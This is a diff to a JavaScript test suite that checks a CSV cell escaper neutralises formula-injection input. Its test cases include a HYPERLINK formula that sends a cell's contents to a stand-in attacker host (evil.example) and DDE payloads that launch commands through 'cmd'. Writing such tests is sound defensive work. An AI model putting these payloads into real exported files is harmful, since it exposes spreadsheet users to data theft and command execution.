@@ -4,8 +4,8 @@ import { csvCell, csvRow } from './csv'
 describe('CSV cells', () => {
   it.each([
     ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
-    ['+cmd|\' /C calc\'!A0', `"'+cmd|' /C calc'!A0"`],
-    ['-2+3+cmd|\' /C calc\'!A0', `"'-2+3+cmd|' /C calc'!A0"`],
+    ["+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
+    ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
     ['@SUM(1+1)*cmd', `"'@SUM(1+1)*cmd"`],
     ['\t=1+1', `"'\t=1+1"`],
     ['\r=1+1', `"'\r=1+1"`],
